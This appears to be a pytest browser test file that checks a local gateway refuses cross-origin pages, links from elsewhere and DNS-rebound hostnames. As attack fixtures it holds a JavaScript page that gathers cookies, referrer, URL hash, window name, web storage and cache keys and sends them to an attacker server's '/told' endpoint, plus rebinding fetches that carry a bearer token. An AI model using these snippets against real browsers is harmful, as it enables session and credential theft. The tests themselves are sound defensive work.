"""Pages on other origins, in the browser of somebody who has the gateway open: they get nothing and cause nothing.

The attacker stands on another port of the same host, which a browser calls the same site and to which it sends the
gateway's cookie along, and on another name. It even knows the address for apps, token and all.
"""

import re
from pathlib import Path
from urllib.parse import unquote

import pytest
from tests.support.gateway import gateway
from tests.support.waiting import PATIENCE

from onoff.gateway import guard
from onoff.gateway.guard import REFUSAL

pytestmark = pytest.mark.browser

ATTACK = Path(__file__).with_name("attack.html").read_text()


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_elsewhere_gets_nothing_and_causes_nothing(visitor, local, elsewhere, name):
    visit = visitor().open(local)
    visit.choose("alpha")
    before, position = list(local.world.requests), local.engine.switch.position
    elsewhere.pages["/attack"] = ATTACK.replace("BASE", local.address.base).replace("TOKEN", local.app_token)
    page = visit.context.new_page()
    page.goto(f"http://{name}:{elsewhere.port}/attack")
    assert page.wait_for_selector("#got", state="attached", timeout=1000 * PATIENCE).text_content() == "[]"
    assert local.world.requests == before
    assert local.engine.switch.position == position
    assert len(local.engine.log.latest(10)) == 1
    assert elsewhere.requests  # the page itself; the watch works
    visit.choose("beta")  # and the visitor is not disturbed
    assert visit.complaints == []


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_link_elsewhere_opens_nothing(visitor, local, elsewhere, name):
    visit = visitor().open(local)
    before = list(local.world.requests)
    targets = ["/v1/sources/gamma", "/", f"/t/{local.app_token}/v1/sources/gamma", f"/#{local.token}"]
    for target in targets:
        elsewhere.pages["/link"] = f'<!doctype html><title>x</title><a id=go href="{local.address.base}{target}">go</a>'
        page = visit.context.new_page()
        page.goto(f"http://{name}:{elsewhere.port}/link")
        with page.expect_navigation(url=f"{local.address.base}/**") as navigation:
            page.click("#go")
        assert (navigation.value.status, navigation.value.body()) == (403, REFUSAL), target
        page.close()
    assert local.world.requests == before


def test_a_rebound_name_gets_nothing(visitor, local):
    visit = visitor().open(local)
    before = list(local.world.requests)
    for target in (
        "/",
        "/v1/sources/gamma",
        f"/t/{local.token}/v1/sources/gamma",
        f"/t/{local.app_token}/v1/sources/gamma",
    ):
        answer = visit.page.goto(f"http://rebound.example:{local.port}{target}")
        assert (answer.status, answer.body()) == (403, REFUSAL)
    # From a page of that name, which the browser takes for the same origin as the rebound gateway.
    got = visit.page.evaluate(
        """async (token) => {
          const ask = (path, how) => fetch(path, how).then((a) => a.status, () => 0);
          const headers = { Authorization: `Bearer ${token}`, "Content-Type": "application/json" };
          const turn = { method: "PUT", headers, body: '{"private": false}' };
          return [await ask("/v1/sources/gamma", { headers }), await ask("/v1/privacy", turn)];
        }""",
        local.token,
    )
    assert got == [403, 403]
    assert local.world.requests == before
    assert local.engine.switch.position.private


TELL = """<!doctype html><title>another local server</title><script type=module>
const told = [document.cookie, document.referrer, location.hash, window.name, ...Object.values(localStorage),
  ...Object.values(sessionStorage), ...(await caches?.keys?.() ?? [])];
await fetch("/told?" + encodeURIComponent(JSON.stringify(told)));
document.body.append(Object.assign(document.createElement("output"), { id: "done" }));
</script>"""


def ways_in(visit, local, elsewhere):
    """What opens the gateway of all that another local server gets from the browser of somebody who uses it."""
    elsewhere.pages["/"] = TELL
    for name in ("127.0.0.1", "localhost"):
        page = visit.context.new_page()
        page.goto(f"http://{name}:{elsewhere.port}/")
        page.wait_for_selector("#done", state="attached")
        page.close()
    got = {value for _, value in elsewhere.headers} | {unquote(path) for path in elsewhere.requests}
    words = {word for text in got for word in re.split(r'[\s;,="\[\]?/]+', text) if word}
    assert len(words) > 10
    credentials = [("Authorization", f"Bearer {word}") for word in words] + [("Cookie", value) for value in got]
    same = [("Sec-Fetch-Site", "same-origin"), ("Origin", f"http://{local.host}")]
    asked = [("GET", "/v1/state"), ("GET", "/v1/sources/gamma"), ("GET", "/v1/log")]
    return [
        (credential[0], path)
        for credential in credentials
        for method, path in asked
        for extra in ([], same)
        if local.send(method, path, [credential, *extra]).status != 403
    ]


def test_another_local_server_that_is_visited_gets_nothing_that_opens_the_gateway(visitor, local, elsewhere):
    visit = visitor().open(local)
    visit.choose("alpha")
    before = list(local.world.requests)
    assert ways_in(visit, local, elsewhere) == []
    assert local.world.requests == before
    assert visit.context.cookies() == []


def test_a_cookie_that_holds_the_token_would_be_found(visitor, elsewhere, tmp_path, monkeypatch):
    with gateway(tmp_path) as local:
        jar = (b"set-cookie", f"onoff={local.token}; Path=/; HttpOnly; SameSite=Strict".encode())
        monkeypatch.setattr(guard, "HEADERS", (*guard.HEADERS, jar))
        assert ("Authorization", "/v1/state") in ways_in(visitor().open(local), local, elsewhere)
